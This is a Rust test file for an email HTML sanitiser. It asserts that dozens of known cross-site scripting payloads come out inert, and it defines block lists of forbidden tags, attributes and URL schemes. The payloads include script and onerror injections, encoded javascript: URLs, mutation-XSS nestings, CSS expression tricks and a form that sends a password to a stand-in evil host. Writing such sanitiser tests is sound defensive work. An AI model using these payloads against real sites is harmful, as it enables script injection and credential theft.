use mailroom_mime::{Limits, SafeHtml, html_to_text, parse};

fn safe(html: &str) -> SafeHtml {
    let raw = format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}");
    parse(raw.as_bytes(), &Limits::default()).html.unwrap()
}

/// Tags of a fragment that the sanitiser wrote, with their attributes.
fn tags(html: &str) -> Vec<&str> {
    html.split('<')
        .skip(1)
        .map(|tag| tag.split('>').next().unwrap())
        .collect()
}

/// Nothing in it can run, load, submit, frame or move.
fn assert_harmless(source: &str, html: &str) {
    let lower = html.to_lowercase();
    for tag in tags(&lower) {
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap();
        let forbidden = [
            "script", "style", "link", "meta", "base", "iframe", "frame", "frameset", "object", "embed",
            "applet", "form", "input", "button", "select", "textarea", "svg", "math", "template", "video",
            "audio", "source", "picture", "noscript", "title", "body", "html", "head", "isindex", "xml",
            "marquee", "bgsound", "layer", "portal",
        ];
        assert!(!forbidden.contains(&name), "{source}\n{html}");
        let mut pieces = tag.split('"');
        while let Some(before) = pieces.next() {
            let name = before.trim().trim_end_matches('=').rsplit(' ').next().unwrap();
            let value = pieces.next().unwrap_or_default();
            assert!(!name.starts_with("on"), "{source}\n{html}");
            let forbidden = [
                "srcset",
                "action",
                "formaction",
                "background",
                "class",
                "id",
                "name",
                "ping",
                "poster",
                "xmlns",
            ];
            assert!(!forbidden.contains(&name), "{source}\n{html}");
            let schemes: &[&str] = match name {
                "src" => &["cid:", "data:image/"],
                "href" => &["http://", "https://", "mailto:", "tel:"],
                _ => &[""],
            };
            assert!(
                schemes.iter().any(|scheme| value.starts_with(scheme)),
                "{source}\n{html}"
            );
            if name == "style" {
                let moves = ["url(", "expression", "position", "behavior"];
                assert!(!moves.iter().any(|word| value.contains(word)), "{source}\n{html}");
            }
        }
    }
}

#[test]
fn known_attacks_leave_nothing_that_acts() {
    let attacks = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<SCRIPT>alert(1);//<</SCRIPT>",
        "<script/xss src=http://evil></script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror = 'alert(1)' />",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<img src=javascript:alert(1)>",
        "<img src=&#106;avascript:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1);\">",
        "<img src=\" &#14; javascript:alert(1);\">",
        "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
        "<img srcset='http://evil/x 1x'>",
        "<picture><source srcset=http://evil/x><img src=http://evil/y></picture>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href='javascript&Tab;:alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='\u{1}javascript:alert(1)'>x</a>",
        "<a href=x ping=http://evil>x</a>",
        "<body onload=alert(1) background=javascript:alert(1)>x</body>",
        "<body background=http://evil/x>x</body>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<math href='javascript:alert(1)'>x</math>",
        "<form action=http://evil><input type=password name=p><button formaction=http://evil>x</button></form>",
        "<isindex action=javascript:alert(1)>",
        "<iframe src=http://evil></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=http://evil></object><embed src=http://evil><applet code=x></applet>",
        "<meta http-equiv=refresh content='0;url=http://evil'>",
        "<base href=http://evil/><img src=x>",
        "<link rel=stylesheet href=http://evil/x.css>",
        "<style>@import 'http://evil/x.css'; body{background:url(http://evil)}</style>",
        "<div style='background:url(http://evil/x)'>x</div>",
        "<div style='background:u\\72l(http://evil/x)'>x</div>",
        "<div style='background:url&#40;http://evil/x)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='width:exp/**/ression(alert(1))'>x</div>",
        "<div style='behavior:url(#x)'>x</div>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<div style=\"font-family:'x;position:fixed'\">x</div>",
        "<table background=javascript:alert(1)><td background='javascript:alert(1)'>x</table>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
        "<title><img title='</title><img src=x onerror=alert(1)>'>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<template><img src=x onerror=alert(1)></template>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<video poster=http://evil src=http://evil onerror=alert(1)><source src=http://evil></video>",
        "<audio src=http://evil autoplay>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version='1.0'?><?import namespace=x><img src=x onerror=alert(1)?>",
        "<p/onclick=alert(1)>x</p>",
        "<p onclick\u{c}=alert(1)>x</p>",
        "<p title=\"\"onclick=alert(1)>x</p>",
        "<p title='&quot; onclick=&quot;alert(1)'>x</p>",
        "<a title=\"<img src=x onerror=alert(1)>\">x</a>",
        "<img alt=\"`><img src=x onerror=alert(1)>\" src=cid:x>",
        "<b id=x class=y name=z>x</b>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"https://x/\" target=_self rel=opener>x</a>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<img src='data:text/html,x'>",
        "<img src=ftp://evil/x>",
        "<img src='\\\\evil\\x'>",
        "<img src=/relative>",
        "<image src=http://evil/x>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "\u{0}<scr\u{0}ipt>alert(1)</script>",
        "<plaintext><img src=x onerror=alert(1)>",
    ];
    for attack in attacks {
        let found = safe(attack);
        assert_harmless(attack, &found.html);
        // And once more: what is safe stays as it is, or becomes less.
        assert_harmless(attack, &safe(&found.html).html);
        assert!(!html_to_text(attack).contains("onerror=alert(1)//"), "{attack}");
    }
}

#[test]
fn harmless_look_survives() {
    let cases = [
        (
            "<p style='color:#333;margin:0'>a <b>b</b></p>",
            "<p style=\"color:#333;margin:0\">a <b>b</b></p>",
        ),
        (
            "<table width=600 cellpadding=0><tr><td align=center bgcolor=#fff colspan=2>x</td></tr></table>",
            "<table width=\"600\" cellpadding=\"0\"><tbody><tr><td align=\"center\" bgcolor=\"#fff\" colspan=\"2\">x</td></tr></tbody></table>",
        ),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        (
            "<font color=red face=Arial size=2>x</font>",
            "<font color=\"red\" face=\"Arial\" size=\"2\">x</font>",
        ),
        ("zażółć &amp; &copy; &lt;b&gt;", "zażółć &amp; © &lt;b&gt;"),
        ("<blockquote>old</blockquote>", "<blockquote>old</blockquote>"),
    ];
    for (html, shown) in cases {
        assert_eq!(safe(html).html, shown);
    }
}
